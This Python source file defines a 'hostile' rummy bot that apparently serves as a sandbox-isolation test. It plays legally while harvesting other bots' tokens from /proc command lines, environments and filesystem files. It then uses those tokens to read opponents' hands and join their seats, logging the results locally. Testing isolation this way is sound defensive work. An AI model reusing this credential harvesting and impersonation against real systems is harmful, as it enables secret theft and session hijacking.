"""A hostile bot (issue #30): plays legally (the greedy policy), and on its decisions spies on everything it can.

It reads every process's command line and environment, walks the filesystem it can see for records (``*.jsonl``),
configs (``*.toml``), logs and token-looking strings, then calls the referee's Search service (LegalActions,
SampleDeals) and Play (Join) with every token it found that is not its own. What it learned goes to
``findings.json`` in its own folder (its cwd), rewritten at every spy round:

    processes: other processes seen (pid, command line) outside its own sandbox
    tokens: foreign tokens found (where); records / configs: files found; decks: record lines holding a deck
    opponent_hands: another seat's hand obtained from Search; joined: a Play Join a foreign token got seated with
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import grpc

from referee.rules.policies import greedy_policy
from referee.rules.variants.base import Action, SeatView
from rummy.referee.v1 import referee_pb2 as pb
from rummy.referee.v1 import referee_pb2_grpc as pb_grpc
from rummybot.bots.base import PolicyBot
from rummybot.sdk import Request, main
from rummybot.search import SearchClient

# the runner's bot tokens (NAME-INDEX-NONCE), whole: not the tail of a file name such as the compiled rules core's
# ABI tag in build/native/manifest.json (".cpython-311-x86_64-linux-gnu.so")
TOKEN = re.compile(r"(?<![\w.-])[A-Za-z0-9][A-Za-z0-9_.-]{0,63}-\d+-[A-Za-z0-9_-]{16}")
MAX_FILES = 5_000  # per root: a bounded walk, the test must stay fast
WALK_S = 1.0  # and at most this long per round (a decision has 4 s)
SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/var/lib", "/var/cache"}


class Hostile(PolicyBot):
    def __init__(self) -> None:
        super().__init__("hostile", greedy_policy)
        self.referee = os.environ.get("RUMMY_REFEREE", "")
        self.own = {os.environ.get("RUMMY_BOT_TOKEN", ""), os.environ.get("RUMMY_SEAT_TOKEN", "")} - {""}
        self.out = Path.cwd() / "findings.json"
        self.f: dict[str, Any] = {"processes": {}, "tokens": {}, "records": [], "configs": [], "decks": [],
                                  "opponent_hands": [], "joined": [], "errors": [], "rounds": 0, "referee": self.referee,
                                  "visible_pids": 0}
        self.tried: dict[tuple[str, str], int] = {}  # (token, match) -> tries (a seat's bot token is known to
        # the referee once its bot has joined: a busy machine's opponent may join after this bot's first decision)
        self.join_tried: set[str] = set()
        self.locks = {"proc": threading.Lock(), "files": threading.Lock()}  # one round of each kind at a time
        self.saving = threading.Lock()
        self.dirs: set[str] = set()  # folders tournaments run in, from /proc: where the walk looks first
        self.walked = 0.0

    def decide(self, view: SeatView, legal: Sequence[Action], request: Request) -> Action:
        """Each decision starts spy rounds (of each kind, unless one is running) on threads of their own, so the
        spying never costs this bot its turn; the move itself is greedy. The quick round (/proc, then Search with
        what it gave) never waits behind the slow one (the walk of the filesystem, then joins), which on a busy
        host with many files could outlast a whole tournament."""
        for kind, spy in (("proc", self.spy_proc), ("files", self.spy_files)):
            if self.locks[kind].acquire(blocking=False):
                threading.Thread(target=self._round, args=(kind, spy, request.match_id, request.seat),
                                 daemon=True).start()
        return super().decide(view, legal, request)

    def _round(self, kind: str, spy: Callable[[str, int], None], match_id: str, seat: int) -> None:
        try:
            spy(match_id, seat)
        except Exception as exc:  # a failed round is noted, never fatal
            self.f["errors"].append(repr(exc)[:200])
        finally:
            self.locks[kind].release()

    # ------------------------------------------------------------------ spying

    def spy_proc(self, match_id: str, seat: int) -> None:
        self.f["rounds"] += 1
        self.dirs |= self.scan_proc()
        self.use_tokens(match_id, seat, join=False)
        self.save()

    def spy_files(self, match_id: str, seat: int) -> None:
        if time.monotonic() - self.walked > 2.0:  # the walk is the slow part: at most every 2 s
            self.walked = time.monotonic()
            near = [*map(str, Path.cwd().parents), *sorted(self.dirs)]  # the most telling first; "/" last
            for path in _walk([*near, "/tmp", os.path.expanduser("~"), "/"]):
                if self.file(path):
                    self.save()  # as soon as it has something: the bot may be stopped before the walk ends
        self.use_tokens(match_id, seat, join=True)
        self.save()

    def scan_proc(self) -> set[str]:
        """Every process's command line and environment: tokens, and the folders tournaments run in."""
        dirs: set[str] = set()
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        self.f["visible_pids"] = max(self.f["visible_pids"], len(pids))
        mine = _own_tree()
        for pid in pids:
            cmd = _read(f"/proc/{pid}/cmdline").split(b"\0")
            args = [a.decode(errors="replace") for a in cmd if a]
            if int(pid) not in mine and args:
                self.f["processes"][pid] = " ".join(args)[:300]
            for i, a in enumerate(args):
                if a in ("--bot-token", "--token") and i + 1 < len(args):
                    self.token(args[i + 1], f"/proc/{pid}/cmdline")
                if a.startswith("/") and len(a) < 4096 and any("rummy" in x or "tournament" in x for x in args):
                    dirs.add(a if os.path.isdir(a) else os.path.dirname(a))
            rummy = any("rummy" in a or "tournament" in a for a in args)
            for line in _read(f"/proc/{pid}/environ").split(b"\0"):
                k, _, v = line.decode(errors="replace").partition("=")
                if k in ("RUMMY_BOT_TOKEN", "RUMMY_SEAT_TOKEN"):
                    self.token(v, f"/proc/{pid}/environ")
                    rummy = True
            if rummy:  # a tournament's process: where it runs is worth a look
                with _quiet():
                    dirs.add(os.readlink(f"/proc/{pid}/cwd"))
        return dirs

    def save(self) -> None:
        with self.saving:  # (two rounds' threads)
            for _ in range(5):
                try:
                    text = json.dumps(self.f, indent=1, sort_keys=True)
                    break
                except RuntimeError:  # the other round added to it meanwhile: read it again
                    continue
            else:
                return  # the next save writes it
            tmp = self.out.with_suffix(".tmp")
            tmp.write_text(text)
            os.replace(tmp, self.out)  # whole: the bot may be stopped mid-round

    def token(self, value: str, where: str) -> None:
        if value and value not in self.own:
            self.f["tokens"].setdefault(value, where)

    def file(self, path: str) -> bool:
        """Read one file found by the walk; True if it was a record or a config."""
        name = os.path.basename(path)
        found = name.endswith((".jsonl", ".toml"))
        if name.endswith(".jsonl"):
            if path not in self.f["records"]:
                self.f["records"].append(path)
            for line in _read(path, 4_000_000).splitlines():
                if line.startswith(b'{"type":"hand"') and b'"deck"' in line:
                    deck = json.loads(line)
                    entry = [path, deck.get("hand"), len(deck.get("deck", []))]
                    if entry not in self.f["decks"]:
                        self.f["decks"].append(entry)
        elif name.endswith(".toml") and path not in self.f["configs"]:
            self.f["configs"].append(path)
        if os.path.getsize(path) < 4_000_000:
            for m in TOKEN.findall(_read(path).decode(errors="replace")):
                self.token(m, path)
        return found

    def use_tokens(self, match_id: str, seat: int, join: bool) -> None:
        """Search and Play with every foreign token (those from /proc first; at most 1.5 s a round, the rest on
        the next decisions): another seat's view is its hand."""
        deadline = time.monotonic() + 1.5
        for tok in sorted(self.f["tokens"], key=lambda t: not self.f["tokens"][t].startswith("/proc/")):
            if self.tried.get((tok, match_id), 0) >= 3:
                continue
            if time.monotonic() > deadline:
                break
            self.tried[tok, match_id] = self.tried.get((tok, match_id), 0) + 1
            try:
                with SearchClient(self.referee, token=tok, timeout_s=2) as search:
                    pos = search.legal_actions(match_id=match_id)
                    if pos.view is not None and pos.view.seat != seat:
                        self.f["opponent_hands"].append([match_id, pos.view.seat, [str(c) for c in pos.view.hand]])
                        self.tried[tok, match_id] = 3  # read: once a match is enough to show it
            except grpc.RpcError as exc:
                self.f["errors"].append(f"search: {exc.code().name}")
            if join and tok not in self.join_tried:  # once per token: a seat taken over loses its real player's turns
                self.join_tried.add(tok)
                self.join(tok)

    def join(self, tok: str) -> None:
        """A Play stream joined with a foreign bot token (in a child process, killed after 2 s: a blocked stream
        must not cost this bot its turn): seated means the seat could be taken over."""
        try:
            done = subprocess.run([sys.executable, __file__, "--join", self.referee], input=tok, capture_output=True,
                                  text=True, timeout=2, check=False)
        except subprocess.TimeoutExpired:
            self.f["errors"].append("join: no answer in 2 s")
            return
        if done.stdout.strip() == "seated":
            self.f["joined"].append(tok)
        elif done.stdout.strip():
            self.f["errors"].append(f"join: {done.stdout.strip()[:100]}")


def _join(referee: str, tok: str) -> str:
    """Join with ``tok`` and say whether the referee seated this stream (the token on stdin, not the command line)."""
    with grpc.insecure_channel(referee) as ch:
        stub = pb_grpc.RefereeServiceStub(ch)  # type: ignore[no-untyped-call]
        join = pb.PlayRequest(join=pb.Join(bot_token=tok, bot_name="hostile", sdk="hostile/0"))

        def requests() -> Iterator[pb.PlayRequest]:
            yield join
            time.sleep(1.5)

        try:
            for msg in stub.Play(requests(), timeout=1.5):
                if msg.WhichOneof("body") == "seated":
                    return "seated"
        except grpc.RpcError as exc:
            return str(exc.code().name)
    return "not seated"


def _read(path: str, cap: int = 1_000_000) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(cap)
    except OSError:
        return b""


def _own_tree() -> set[int]:
    """This process, its ancestors inside its sandbox (bwrap, if any) and its threads' ids."""
    out = {os.getpid()}
    pid = os.getpid()
    for _ in range(3):  # the bot, its launcher/bwrap parents; in a sandbox pid 1 is bwrap
        line = [x for x in _read(f"/proc/{pid}/status").decode().splitlines() if x.startswith("PPid:")]
        if not line:
            break
        pid = int(line[0].split()[1])
        if pid == 0:
            break
        if b"bwrap" in _read(f"/proc/{pid}/cmdline").split(b"\0")[0]:
            out.add(pid)
    return out


def _walk(roots: Sequence[str]) -> Iterator[str]:
    """Files worth reading under each root (at most MAX_FILES looked at per root, 4 levels down), once each."""
    done: set[str] = set()
    deadline = time.monotonic() + WALK_S
    for root in roots:
        if time.monotonic() > deadline:
            return
        if not root or root in done or any(root == s or root.startswith(s + "/") for s in SKIP):
            continue
        done.add(root)
        seen = 0
        for here, subdirs, files in os.walk(root, onerror=lambda _e: None):
            subdirs[:] = [d for d in subdirs if os.path.join(here, d) not in SKIP
                          and not d.startswith((".git", ".venv", "node_modules", "__pycache__", ".cache"))]
            if here.rstrip("/").count("/") - root.rstrip("/").count("/") >= 4:
                subdirs[:] = []
            seen += len(files) + 1
            if seen > MAX_FILES or time.monotonic() > deadline:
                break
            for name in files:
                if time.monotonic() > deadline:  # (a folder of many large logs: each file is read and searched)
                    return
                if name.endswith((".jsonl", ".toml", ".log", ".json")):
                    path = os.path.join(here, name)
                    if path not in done and os.path.isfile(path):  # never a FIFO, which would block the read
                        done.add(path)
                        yield path


class _quiet:
    def __enter__(self) -> None:
        return None

    def __exit__(self, *exc: object) -> bool:
        return exc[0] is not None and issubclass(exc[0], OSError)  # type: ignore[arg-type]


if __name__ == "__main__":
    if sys.argv[1:2] == ["--join"]:
        print(_join(sys.argv[2], sys.stdin.read().strip()))
    else:
        main(Hostile())
